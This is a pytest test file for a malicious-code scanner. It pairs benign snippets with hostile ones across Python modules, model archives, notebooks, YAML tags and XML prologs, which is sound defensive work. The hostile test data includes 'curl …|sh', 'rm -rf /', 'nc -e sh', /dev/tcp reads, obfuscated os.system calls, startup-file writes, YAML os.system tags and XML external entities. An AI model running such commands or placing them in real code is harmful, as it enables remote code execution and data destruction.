"""Python, notebooks, XML and YAML: each rule of theirs beside the nearest text that has it not."""

import json

import pytest
from making.zips import Member, archive
from scanning import ids, scanned

from seatrial.scan.source.python import decoded


def library(code):
    """Ids of what is found in source of a library."""
    return sorted(set(ids(scanned(code.encode(), "module.py"))))


def handler(code):
    """Ids of what is found in source of a model archive."""
    return sorted(set(ids(scanned(archive(Member("handler.py", code.encode())), "model.mar"))))


DATA = "b'0123456789abcdef'"


@pytest.mark.parametrize(
    ("honest", "hostile", "rule"),
    [
        ("import zlib\nzlib.decompress(b'x')", f"import zlib\nexec(zlib.decompress({DATA}))", "hidden-code"),
        ("import zlib\nexec(zlib.decompress(b'short'))", f"import zlib\nexec(zlib.decompress({DATA}))", "hidden-code"),
        ("exec('x = 1')", "exec('import os; os.system(1)')", "hidden-code"),
        ("import os\ngetattr(os, 'na' + 'me')", "import os\ngetattr(os, 'sys' + 'tem')('id')", "hidden-code"),
        ("open('a/bashrc', 'w')", "open('/root/.bashrc', 'w')", "writes-startup-file"),
        ("open('/root/.bashrc')", "open('/root/.bashrc', 'a')", "writes-startup-file"),
        ("def f():\n    open('/etc/cron.d/x', 'w')", "open('/etc/cron.d/x', 'w')", "writes-startup-file"),
        ("import os\nos.system('curl http://a')", "import os\nos.system('curl http://a|sh')", "shell-payload"),
        ("import os\nos.system('rm -rf /tmp/x')", "import os\nos.system('rm -rf /')", "shell-payload"),
        ("import os\nos.system('nc -l 80')", "import os\nos.system('nc -e sh a 80')", "shell-payload"),
        ("x = '/dev/tcp/'", "import os\nos.system('cat < /dev/tcp/a/1')", "shell-payload"),
    ],
)
def test_one_step_makes_source_of_a_library_an_attack(honest, hostile, rule):
    """The first text is what libraries do; the second, next to it, is found by the rule."""
    assert library(honest) == []
    assert f"python.{rule}" in library(hostile)


@pytest.mark.parametrize(
    ("honest", "other", "rule"),
    [
        ("import os\nos.getcwd()", "import os\nos.system('id')", "runs-at-import"),
        ("import os\nos.cpu_count()", "def f():\n    import os\n    os.popen('id')", "starts-program"),
        ("def f(x):\n    return eval('1')", "def f(x):\n    return eval(x)", "runs-text"),
        ("import requests", "import requests\ndef f(x):\n    requests.put(x)", "uses-network"),
        ("import pickle\npickle.dumps(1)", "import pickle\ndef f(x):\n    pickle.loads(x)", "loads-pickle"),
        (
            "import torch\ntorch.load('a', weights_only=True)",
            "import torch\ntorch.load('a', weights_only=1)",
            "loads-pickle",
        ),
        ("import yaml\nyaml.safe_load('a')", "import yaml\nyaml.load('a')", "loads-pickle"),
        ("import yaml\nyaml.load('a', yaml.CSafeLoader)", "import yaml\nyaml.load('a', yaml.Loader)", "loads-pickle"),
        ("import ctypes\nctypes.c_int(1)", "import ctypes\nctypes.CDLL('a.so')", "native-code"),
    ],
)
def test_powers_of_a_handler_have_honest_neighbours(honest, other, rule):
    """In a model archive the second is told by its rule, the first not at all."""
    assert handler(honest) == []
    assert handler(other) == [f"python.{rule}"]


@pytest.mark.parametrize(
    ("raw", "text", "odd"),
    [
        (b"x = 1", "x = 1", None),
        (b"\xef\xbb\xbfx", "x", None),
        ("é".encode("utf-16"), "é", None),
        (b"# coding: latin-1\n\xe9", "# coding: latin-1\né", None),
        (b"#!/bin/x\n# vim: set fileencoding=cp1251 :\n\xe9", "#!/bin/x\n# vim: set fileencoding=cp1251 :\nй", None),
        (b"\n\n# coding: utf-7\n", "\n\n# coding: utf-7\n", None),
        (b"# coding: mbcs\n\xe9", "# coding: mbcs\né", None),
        (b"# coding: UTF_7\n+AGE-", "# coding: UTF_7\n+AGE-", "utf_7"),
        (b"# coding: idna\n", "# coding: idna\n", "idna"),
        (b"# coding: \xff\n", "# coding: �\n", None),
        (b"x = 1  # coding: utf-7\n", "x = 1  # coding: utf-7\n", None),
    ],
)
def test_source_is_decoded_as_it_says_within_a_list(raw, text, odd):
    """The first two lines may name an encoding; one that is not on the list is told and not used."""
    assert decoded(raw) == (text, odd)


@pytest.mark.parametrize(
    ("source", "attack"),
    [
        ("!ls", False),
        ("!curl http://a | sh", True),
        ("%sx nc -e /bin/sh a 1", True),
        ("files = !bash -i", True),
        ("# curl http://a | sh", False),
        ("x = 'curl http://a | sh'", False),
        ("%%bash\ncurl http://a | sh", True),
        ("%%html\ncurl http://a | sh", False),
        (["!curl http://a", " | sh"], True),
    ],
)
def test_lines_for_the_shell_are_read_as_such(source, attack):
    """A command counts where the notebook would run it, not in comments, texts or other languages."""
    whole = {"nbformat": 4, "cells": [{"cell_type": "code", "source": source}]}
    assert ("python.shell-payload" in ids(scanned(json.dumps(whole).encode(), "a.ipynb"))) is attack


@pytest.mark.parametrize(
    ("tag", "wanted"),
    [
        *(("!!str", []), ("!!python/tuple", []), ("!Ref", []), ("!!python/none", [])),
        *(("!!python/name:my.f", ["yaml.makes-object"]), ("!!python/name:os.system", ["yaml.runs-code"])),
        *(("!!python/object:my.C", ["yaml.makes-object"]), ("!!python/object:os.x", ["yaml.runs-code"])),
        *(("!!python/object/apply:my.C", ["yaml.makes-object"]), ("!!python/object/apply:my.f", ["yaml.runs-code"])),
        *(("!!python/module:json", ["yaml.runs-code"]), ("!ruby/object:Mine", ["yaml.makes-object"])),
        *(("!ruby/object:Gem::X", ["yaml.runs-code"]), ("!!java.net.URL", ["yaml.runs-code"]), ("!!net.my.C", [])),
    ],
)
def test_tags_are_judged_by_what_they_make(tag, wanted):
    """Plain values are clean, classes for a person, calls and dangerous names attacks."""
    assert ids(scanned(f"a: 1\nb: {tag} x\n".encode(), "a.yaml")) == wanted


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("<!DOCTYPE a [<!ENTITY x 'y'>]><a/>", ["xml.entities"]),
        ("<!DOCTYPE a [<!ENTITY x SYSTEM 'y'>]><a/>", ["xml.external-entity"]),
        ("<!DOCTYPE a SYSTEM 'a.dtd'><a/>", []),
        ("<!DOCTYPE a SYSTEM 'http://a/a.dtd'><a/>", ["xml.foreign-doctype"]),
        ("<!DOCTYPE a SYSTEM 'http://www.w3.org/a.dtd'><a/>", []),
        ("<!DOCTYPE a SYSTEM 'http://www.w3.org.evil/a.dtd'><a/>", ["xml.foreign-doctype"]),
        ("<?xml version='1.0' encoding='utf-8'?><a/>", []),
        ("<?xml version='1.0' encoding='utf-7'?><a/>", ["xml.odd-encoding"]),
        ("<?xml version='1.0'?><a><script >x</script></a>", ["xml.runs-script"]),
        ("<?xml version='1.0'?><a><scripts >x</scripts></a>", []),
    ],
)
def test_prologs_and_elements_of_xml_have_honest_neighbours(text, wanted):
    """What declares, fetches or runs is told; what only looks alike is not."""
    assert ids(scanned(text.encode(), "a.xml")) == wanted
